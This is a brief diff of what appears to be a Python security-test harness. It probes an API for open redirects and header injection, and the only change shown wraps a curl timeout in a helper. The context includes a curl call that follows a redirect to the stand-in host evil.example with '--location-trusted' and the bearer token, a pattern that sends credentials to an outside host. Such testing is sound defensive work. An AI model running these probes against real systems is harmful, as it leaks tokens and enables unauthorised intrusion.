@@ -3,7 +3,7 @@ import subprocess
 from urllib.parse import urlsplit
 
 from keys import BEARER, each_with_key
-from rows import connect, mark, talk
+from rows import connect, mark, seconds, talk
 
 # In a box the name of a route; `~` becomes the sign between a user and a host, `#` the key.
 BASE = urlsplit(os.environ["API_URL"]).hostname
@@ -28,7 +28,7 @@ HEADS = {
 def ask(row):
     if row == "redirect":
         target = f"http:%2f%2fevil.example%2f{mark(row)}"
-        subprocess.run(["curl", "-sk", "-m", "5", "--location-trusted", "-H", BEARER.strip(), f"http://{BASE}/to/{target}"], capture_output=True)
+        subprocess.run(["curl", "-sk", "-m", seconds(5), "--location-trusted", "-H", BEARER.strip(), f"http://{BASE}/to/{target}"], capture_output=True)
         return
     head = HEADS[row].replace("{}", BASE).replace("@", mark(row)).replace("~", "@")
     talk(connect(BASE, 80, 3), head.replace("#", BEARER.split()[-1]).replace("\n", "\r\n") + f"\r\n{BEARER}Connection: close\r\n\r\n", 3)
